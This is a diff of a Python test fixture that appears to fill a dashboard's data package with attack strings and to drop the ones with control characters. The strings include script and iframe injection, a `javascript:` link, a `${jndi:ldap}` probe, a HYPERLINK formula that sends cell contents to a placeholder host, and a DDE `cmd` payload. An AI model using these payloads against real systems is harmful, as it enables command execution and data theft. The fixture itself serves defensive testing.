@@ -1,4 +1,7 @@
-"""A copy of the data package in which every free text is an attack, and which still fits its schemas."""
+"""A copy of the data package in which every free text is an attack, and which still fits its schemas.
+
+What holds control characters or line breaks fits none and is not here: `dashboard.check_cells` refuses it.
+"""
 
 import csv
 import json
@@ -17,31 +20,30 @@ CELLS = (
     f"![x](https://{HOST}/x.png) <https://{HOST}/a> https://{HOST}/b",
     f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe><style>body{{display:none}}</style>',
     f'<a href="https://{HOST}/c">x</a><br><b>y</b>&lt;script&gt;&#0;&amp;',
-    "# heading\n\n- list\n\n```\ncode\n```\n| a | b |\n|---|---|\n| 1 | 2 |",
+    "# heading",
+    "- list",
+    "```code``` | a | b |",
     "$\\frac{1}{0}$ $$\\href{javascript:alert(1)}{x}$$ :red[x] :material/home: :smile: ~~s~~ `c`",
     "{0} {count} {} %s %(x)s %{customdata} %{x:.2f} ${jndi:ldap} {{x}}",
     f'=HYPERLINK("https://{HOST}/?"&A1,"x")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(A1:A9)",
-    "\t=1+1",
-    "\r\n=1+1",
+    " =1+1",
     "\uff1d1+1",
     " =1+1",
     "\u00a0=1+1",
     "\u200b+cmd|' /C calc'!A0",
     "\ufeff\u3000@SUM(A1:A9)",
-    "\v\f-2+3",
-    "x;=1+1;y\n\t=1+1",
+    "x;=1+1;y",
     "\u202eright to left\u202c \u05d0\u05d1\u05d2 \u0627\u0644\u0633\u0644\u0627\u0645 \u2067x",
-    "a\u0000b",
     "long " * 400,
     "x" * 2000,
     "nan",
     "None",
     "-1e309",
     "\u200b",
-    "\ufeffx\u2028y\u2029z\u0085",
+    "\ufeffx",
     "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 20,
     "\\",
     "'",
